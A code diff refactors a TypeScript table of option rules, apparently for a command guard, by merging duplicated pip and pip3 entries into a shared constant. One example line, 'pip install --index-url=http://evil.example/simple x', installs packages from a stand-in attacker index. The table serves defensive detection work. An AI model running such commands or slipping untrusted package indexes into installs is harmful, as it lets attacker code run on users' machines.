@@ -90,6 +90,29 @@ const SYNTAX: Readonly<Record<string, ProgramSyntax>> = {
   vitest: { abbreviates: false },
 };
 
+/** pip's install-like subcommands and what makes them run or write elsewhere, shared by pip and pip3. */
+const PIP_INSTALL = {
+  subcommands: ['install', 'download', 'wheel'],
+  long: [
+    'index-url',
+    'extra-index-url',
+    'find-links',
+    'target',
+    'prefix',
+    'root',
+    'src',
+    'requirement',
+    'constraint',
+    'config-settings',
+    'global-option',
+    'build-option',
+    'trusted-host',
+  ],
+  short: 'iftrc',
+  effect: 'runs code',
+  doc: 'pip install: -i/--index-url, -f/--find-links install code from elsewhere; -t/--target, --prefix, --root write elsewhere; -r/-c read options from a file',
+} as const satisfies Omit<ExecOptionEntry, 'program' | 'example'>;
+
 export const EXEC_OPTIONS: readonly ExecOptionEntry[] = [
   // git: git(1), git-fetch(1), git-clone(1), git-push(1), git-rebase(1), git-archive(1) …
   {
@@ -341,53 +364,9 @@ export const EXEC_OPTIONS: readonly ExecOptionEntry[] = [
     example: 'yarn --cwd /tmp/other test',
     doc: "yarn classic CLI: --cwd runs another package's scripts; --use-yarnrc loads another yarnrc",
   },
-  // pip: `pip install --help`.
-  {
-    program: 'pip',
-    subcommands: ['install', 'download', 'wheel'],
-    long: [
-      'index-url',
-      'extra-index-url',
-      'find-links',
-      'target',
-      'prefix',
-      'root',
-      'src',
-      'requirement',
-      'constraint',
-      'config-settings',
-      'global-option',
-      'build-option',
-      'trusted-host',
-    ],
-    short: 'iftrc',
-    effect: 'runs code',
-    example: 'pip install --index-url=http://evil.example/simple x',
-    doc: 'pip install: -i/--index-url, -f/--find-links install code from elsewhere; -t/--target, --prefix, --root write elsewhere; -r/-c read options from a file',
-  },
-  {
-    program: 'pip3',
-    subcommands: ['install', 'download', 'wheel'],
-    long: [
-      'index-url',
-      'extra-index-url',
-      'find-links',
-      'target',
-      'prefix',
-      'root',
-      'src',
-      'requirement',
-      'constraint',
-      'config-settings',
-      'global-option',
-      'build-option',
-      'trusted-host',
-    ],
-    short: 'iftrc',
-    effect: 'runs code',
-    example: 'pip3 install -t /tmp/x requests',
-    doc: 'pip install, as pip3',
-  },
+  // pip: `pip install --help`; pip3 is the same program.
+  { program: 'pip', ...PIP_INSTALL, example: 'pip install --index-url=http://evil.example/simple x' },
+  { program: 'pip3', ...PIP_INSTALL, example: 'pip3 install -t /tmp/x requests' },
   // pytest: `pytest --help`.
   {
     program: 'pytest',
